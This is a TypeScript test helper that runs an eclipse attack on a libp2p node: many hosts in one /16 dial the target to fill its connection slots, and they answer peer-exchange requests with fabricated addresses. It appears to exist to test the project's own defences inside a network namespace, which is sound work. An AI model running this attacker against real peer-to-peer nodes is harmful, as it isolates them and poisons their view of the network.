/*
 * The eclipse attacker of tests/net/eclipse.test.ts, run inside its namespace:
 *
 *   node --import tsx tests/net/eclipse-attacker.ts <target multiaddr> <ip> [<ip> ...]
 *
 * One libp2p host per given address (all in one /16), each of which dials the target, answers
 * every peer-exchange question with 32 fresh addresses of that /16, and asks the target in turn.
 * It speaks no drift protocol: its connections only take slots. It prints one line per second
 * (`attacker: N connected, M addresses told`) and runs until killed.
 */
import '../../src-main/node/p2p/polyfill';
import { noise } from '@chainsafe/libp2p-noise';
import { yamux } from '@chainsafe/libp2p-yamux';
import { identify } from '@libp2p/identify';
import { tcp, type TCPSocketOptions } from '@libp2p/tcp';
import { multiaddr } from '@multiformats/multiaddr';
import { createLibp2p, type Libp2p } from 'libp2p';
import { frameBytes } from '../../src-shared/protocol/codec';
import { PEX_MAX_ADDRS, PEX_PROTOCOL_ID, encodePex } from '../../src-shared/protocol/peer-exchange';

const [target, ...ips] = process.argv.slice(2);
if (!target || ips.length === 0) {
  console.error('usage: eclipse-attacker <target multiaddr> <ip> [<ip> ...]');
  process.exit(2);
}
const prefix = ips[0]!.split('.').slice(0, 2).join('.');
let told = 0;
let n = 0;

/** 32 addresses of the attacker's /16 that nobody listens on, never the same twice. */
function lies(): string[] {
  return Array.from({ length: PEX_MAX_ADDRS }, () => {
    n++;
    return `/ip4/${prefix}.${(n >> 8) & 255}.${n & 255}/tcp/${4001 + (n % 1000)}`;
  });
}

// Bare libp2p nodes, each listening on its own address and dialling from it (the kernel would
// otherwise pick the namespace's first address as every dial's source).
const hosts: Array<{ libp2p: Libp2p }> = [];
for (const ip of ips) {
  const libp2p = await createLibp2p({
    addresses: { listen: [`/ip4/${ip}/tcp/4001`] },
    transports: [tcp({ dialOpts: { localAddress: ip } as TCPSocketOptions })],
    connectionEncrypters: [noise()],
    streamMuxers: [yamux({ enableKeepAlive: false })],
    services: { identify: identify() },
    connectionMonitor: { enabled: false },
  });
  const h = { libp2p };
  await h.libp2p.handle(
    PEX_PROTOCOL_ID,
    (stream) => {
      told += PEX_MAX_ADDRS;
      stream.send(frameBytes(encodePex(lies())));
      void stream.close().catch(() => stream.abort(new Error('closed')));
    },
    { runOnLimitedConnection: true },
  );
  hosts.push(h);
}

async function dialAll(): Promise<void> {
  await Promise.all(
    hosts.map(async (h) => {
      if (h.libp2p.getConnections().length > 0) return;
      const c = await h.libp2p.dial(multiaddr(target)).catch(() => undefined);
      // Ask the target too, as an honest newcomer would (what it answers is not used).
      if (c)
        await c
          .newStream(PEX_PROTOCOL_ID)
          .then((s) => s.abort(new Error('done')))
          .catch(() => undefined);
    }),
  );
}

setInterval(() => {
  const connected = hosts.filter((h) => h.libp2p.getConnections().length > 0).length;
  console.log(`attacker: ${connected} connected, ${told} addresses told`);
  void dialAll();
}, 1000);
await dialAll();
